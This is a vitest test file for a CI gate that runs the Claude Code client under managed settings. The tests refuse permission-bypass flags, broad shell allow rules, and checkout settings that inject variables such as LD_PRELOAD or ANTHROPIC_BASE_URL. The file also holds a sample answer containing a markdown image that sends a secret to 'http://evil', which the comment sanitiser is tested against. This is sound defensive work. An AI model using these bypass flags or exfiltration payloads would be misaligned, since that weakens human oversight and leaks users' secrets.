// What `ci run` refuses before anything starts: weaker options, broad rules, checkouts that run code, machines that hold nothing.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { checkoutDemands, refuseDemands } from "#surface/services/ci/checkout-gate.ts";
import { clientEnding } from "#surface/services/ci/client-ending.ts";
import { hostedRunner } from "#surface/services/ci/isolation.ts";
import {
  missingAttributes,
  resourceAttributes,
  runIdentity,
} from "#surface/services/ci/run-identity.ts";
import { clientCommand, readMode, refuseBroadRules } from "#surface/services/ci/run-request.ts";
import { runSettings } from "#surface/services/ci/run-settings.ts";
import { commentBody, type RunSummary } from "#surface/services/ci/run-summary.ts";
import { loadPack } from "#surface/services/policy/policy-source.ts";

describe("the command behind `--`", () => {
  it("keeps the words of the client, and takes the mode out", () => {
    expect(
      clientCommand([
        "/usr/bin/claude",
        "-p",
        "--model",
        "x",
        "--permission-mode=plan",
        "--",
        "go",
      ]),
    ).toEqual({
      client: "/usr/bin/claude",
      words: ["-p", "--model", "x", "--", "go"],
      mode: "plan",
    });
  });
  it.each([
    ["nothing", [], "say what is run"],
    ["another program", ["bash", "-c", "claude -p x"], "is not the client"],
    ["a session that waits", ["claude", "x"], "waits for a person"],
    ["skipped permissions", ["claude", "-p", "--dangerously-skip-permissions"], "every check off"],
    ["bypass", ["claude", "-p", "--permission-mode", "bypassPermissions"], "is refused"],
    ["edits unasked", ["claude", "-p", "--permission-mode=acceptEdits"], "is refused"],
    ["settings", ["claude", "-p", "--settings={}"], "from the policy"],
    ["servers", ["claude", "-p", "--mcp-config", "x.json"], "managed settings"],
    ["plugins", ["claude", "-p", "--plugin-dir", "x"], "nobody"],
    ["no hooks", ["claude", "-p", "--bare"], "leaves hooks out"],
    ["tools", ["claude", "-p", "--allowedTools", "Bash"], "--allow"],
    ["another session", ["claude", "-p", "-c"], "begins anew"],
  ])("%s is refused", (_, words, message) => {
    expect(() => clientCommand(words)).toThrow(message);
  });
  it("is not looked for in the prompt", () => {
    expect(
      clientCommand(["claude", "-p", "--", "why is --dangerously-skip-permissions bad?"]).words,
    ).toHaveLength(3);
  });
});

describe("the allow list", () => {
  it.each([
    "*",
    "Bash",
    "Bash(*)",
    "Bash(:*)",
    "Bash(npm:*)",
    "Bash(bash -c:*)",
    "Bash(sudo bash)",
    "Bash(git:*)",
    "mcp__x",
    "WebFetch",
  ])("is refused with %s", (rule) => {
    expect(() => refuseBroadRules(["Edit", rule])).toThrow("is refused");
  });
  it("may name commands", () => {
    expect(() =>
      refuseBroadRules([
        "Edit",
        "Write",
        "Bash(npm test)",
        "Bash(npm run lint:*)",
        "Bash(git status)",
      ]),
    ).not.toThrow();
  });
  it("knows two modes", () => {
    expect([readMode("plan"), readMode("dontAsk")]).toEqual(["plan", "dontAsk"]);
    expect(() => readMode("default")).toThrow("is refused");
  });
});

describe("a checkout", () => {
  const room = mkdtempSync(join(tmpdir(), "sallyport-checkout-"));
  afterAll(() => rmSync(room, { recursive: true, force: true }));
  let count = 0;
  const refusal = (
    files: Readonly<Record<string, string>>,
    held: readonly string[] = [],
    clientVersion?: string,
  ): string => {
    const directory = join(room, String((count += 1)));
    for (const [name, text] of Object.entries({ "readme.md": "", ...files })) {
      mkdirSync(dirname(join(directory, name)), { recursive: true });
      writeFileSync(join(directory, name), text);
    }
    try {
      const all = new Set(["OTEL_LOGS_EXPORTER", ...held]);
      refuseDemands(checkoutDemands(directory, all, clientVersion));
      return "";
    } catch (error) {
      return String(error);
    }
  };
  const env = (name: string, value = "x") => ({
    ".claude/settings.json": JSON.stringify({ env: { [name]: value } }),
  });
  it.each([
    "ANTHROPIC_BASE_URL",
    "BASH_ENV",
    "PATH",
    "GIT_CONFIG_COUNT",
    "NODE_OPTIONS",
    "LD_PRELOAD",
    "HTTPS_PROXY",
    "PAGER",
  ])("that sets %s is refused, with the variable's name and not its value", (name) => {
    expect(refusal(env(name, "SECRETVALUE/x"))).toContain(name);
    expect(refusal(env(name, "SECRETVALUE/x"))).not.toContain("SECRETVALUE");
  });
  it.each([
    ["CLAUDE_CODE_MODEL_CATALOG_URL", "2.1.332", true],
    ["CLAUDE_CODE_MODEL_CATALOG_URL", "2.1.197", false],
    ["CLAUDE_CODE_MODEL_CATALOG_URL", undefined, false],
    ["OTEL_EXPORTER_OTLP_ENDPOINT", "2.1.332", true],
    ["ANTHROPIC_BASE_URL", "2.1.332", false],
    ["NODE_EXTRA_CA_CERTS", "2.1.332", false],
  ] as const)("that sets %s runs with the client %s: %s", (name, version, isIgnored) => {
    expect(refusal(env(name, "https://x"), [], version) === "").toBe(isIgnored);
  });
  it.each([
    [
      "a helper for keys in the cloud",
      { ".claude/settings.local.json": '{"awsAuthRefresh":"./x"}' },
      "awsAuthRefresh",
    ],
    [
      "commands outside of the sandbox",
      { ".claude/settings.json": '{"sandbox":{"enabled":true,"excludedCommands":["docker"]}}' },
      "sandbox.excludedCommands",
    ],
    [
      "commands that nobody is asked about",
      { ".claude/settings.local.json": '{"sandbox":{"autoAllowBashIfSandboxed":true}}' },
      "sandbox.autoAllowBashIfSandboxed",
    ],
    [
      "more places to write",
      { ".claude/settings.json": '{"sandbox":{"filesystem":{"allowWrite":["/srv"]}}}' },
      "sandbox.filesystem.allowWrite",
    ],
    [
      "a proxy of its own",
      { ".claude/settings.json": '{"sandbox":{"network":{"httpProxyPort":8080}}}' },
      "sandbox.network.httpProxyPort",
    ],
    ["settings that are no JSON", { ".claude/settings.json": "{" }, "cannot be read"],
    ["servers that are no JSON", { ".mcp.json": "[]" }, "cannot be read"],
  ])("with %s is refused", (_, files, message) => {
    expect(refusal(files as unknown as Readonly<Record<string, string>>)).toContain(message);
  });
  it("with a sandbox that only holds more, or whose keys managed settings decide, is run", () => {
    const sandbox = {
      enabled: true,
      excludedCommands: [],
      autoAllowBashIfSandboxed: false,
      filesystem: { denyRead: ["~/.ssh"] },
      ripgrep: { command: "./rg" },
    };
    expect(refusal({ ".claude/settings.json": JSON.stringify({ sandbox }) })).toBe("");
    const open = { sandbox: { network: { allowedDomains: ["example.com"] } } };
    expect(refusal({ ".claude/settings.json": JSON.stringify(open) })).toContain("allowedDomains");
    const decided = refusal({ ".claude/settings.json": JSON.stringify(open) }, [
      "sandbox.network.allowedDomains",
    ]);
    expect(decided).toBe("");
  });
  it("with hooks, servers and harmless variables is run: managed settings hold the first two", () => {
    const hooks = { PreToolUse: [{ hooks: [{ type: "command", command: "x" }] }] };
    const settings = {
      hooks,
      apiKeyHelper: "./x",
      env: { EDITOR_THEME: "dark", OTEL_LOGS_EXPORTER: "none" },
    };
    expect(
      refusal({
        ".claude/settings.json": JSON.stringify(settings),
        ".mcp.json": '{"mcpServers":{"a":{}}}',
      }),
    ).toBe("");
  });
});

describe("what a run is told and tells", () => {
  const hosted = { GITHUB_ACTIONS: "true", RUNNER_ENVIRONMENT: "github-hosted" };
  it("knows a hosted runner by the words of its service, and no other", () => {
    expect(hostedRunner(hosted)).toContain("GitHub");
    expect(hostedRunner({ ...hosted, RUNNER_ENVIRONMENT: "self-hosted" })).toBeUndefined();
    expect(hostedRunner({ CI: "true" })).toBeUndefined();
    expect(hostedRunner({ GITLAB_CI: "true", CI_DISPOSABLE_ENVIRONMENT: "true" })).toContain(
      "GitLab",
    );
  });
  it("names the run by the service's variables, encoded, and says what is missing", () => {
    const identity = runIdentity(
      { CI_PROJECT_PATH: "shop/a b", CI_JOB_NAME: "agent", GIT_URL: "https://u:p@h/r" },
      "tier-ci/plan",
    );
    expect(resourceAttributes(identity)).toBe(
      "cicd.pipeline.name=shop%2Fa%20b,cicd.pipeline.task.name=agent,vcs.repository.name=shop%2Fa%20b,sallyport.profile=tier-ci%2Fplan",
    );
    expect(missingAttributes(identity)).toContain("cicd.actor");
    expect(JSON.stringify(runIdentity({ GIT_URL: "https://u:p@h/r" }, ""))).not.toContain("u:p");
  });
  it("compiles managed settings with the mode, no servers, our hooks alone and the allow list", () => {
    const { text, held } = runSettings({
      policy: loadPack("tier-ci"),
      mode: "plan",
      allow: ["Bash(npm test)"],
      egress: ["packages.example.com"],
      hook: {
        program: "/d/bin/sallyport-hook",
        project: "3f1c0a9b7d2e4856",
        data: "/d",
        home: "/h",
      },
      isSandboxed: true,
      baseUrl: undefined,
      telemetry: { endpoint: "https://o.example", protocol: "http/json" },
      environment: { CI: "true" },
    });
    const settings = JSON.parse(text);
    expect(settings).toMatchObject({
      allowManagedHooksOnly: true,
      allowManagedPermissionRulesOnly: true,
      allowedMcpServers: [],
      permissions: { defaultMode: "plan", disableBypassPermissionsMode: "disable" },
      env: { CI: "true", CLAUDE_CODE_ENABLE_TELEMETRY: "1", BASH_ENV: "" },
    });
    expect(settings.permissions.allow).toContain("Bash(npm test)");
    // WHY none: the client fills such a pattern in with processes that its sandbox has not, and no command starts.
    expect(text).not.toMatch(/\/proc\/[^"]*\*[^"]*environ/);
    expect(settings.sandbox.network.allowedDomains).toContain("packages.example.com");
    expect(held.has("ANTHROPIC_BASE_URL")).toBe(true);
    const keys = ["autoAllowBashIfSandboxed", "network.allowedDomains", "filesystem.allowWrite"];
    expect(keys.map((key) => held.has(`sandbox.${key}`))).toEqual([true, true, false]);
  });
  it("reads the client's last word, whatever stands before it", () => {
    const result = {
      type: "result",
      result: "done",
      permission_denials: [{ tool_name: "Bash", tool_use_id: "t1" }, 5],
    };
    expect(clientEnding(`x\n{"type":"system"}\n${JSON.stringify(result)}\n`)).toEqual({
      answer: "done",
      denials: [{ tool: "Bash", id: "t1" }],
      calls: [],
    });
    expect(clientEnding("")).toEqual({ answer: "", denials: [], calls: [] });
  });
});

describe("the comment", () => {
  const summary: RunSummary = {
    format: 1,
    outcome: "done",
    startedAt: "2026-11-21T00:00:00.000Z",
    durationMs: 1_000,
    policy: { id: "tier-ci", digest: "" },
    mode: "dontAsk",
    allow: [],
    egress: [],
    limits: { timeoutMs: 1, maxTurns: 1, maxBudgetUsd: null },
    isolation: [],
    identity: {},
    missingAttributes: [],
    telemetry: null,
    demands: [],
    calls: {},
    refusals: [
      {
        tool: "Bash",
        what: "git | `x` @team <img src=x>",
        rule: "r",
        reason: "[a](http://b)\n# c",
        asked: true,
      },
    ],
    hindered: [],
    changed: ["a`b|c\u202Ed.js"],
    answer: "```\n@everyone ![x](http://evil/?q=secret)\n````\n</details>",
    log: { entries: 3, isVerified: true, proof: null, meant: null },
  };
  it("shows what others wrote as code, which nothing of theirs ends", () => {
    const body = commentBody(summary);
    expect(body).toContain("`Bash: git ¦ 'x' @team <img src=x>`");
    expect(body).toContain("asked, nobody to answer: [a](http://b) # c`");
    expect(body).toContain("`a'b¦c d.js`");
    expect(body).toContain("`````text\n```\n@everyone");
  });
  it("stays within what hosts take", () => {
    const many = Array.from({ length: 500 }, () => summary.refusals[0] ?? expect.unreachable());
    const body = commentBody({ ...summary, refusals: many, answer: "x".repeat(200_000) });
    expect(body.length).toBeLessThan(65_000);
    expect(body).toContain("450 more in the decision log");
  });
});
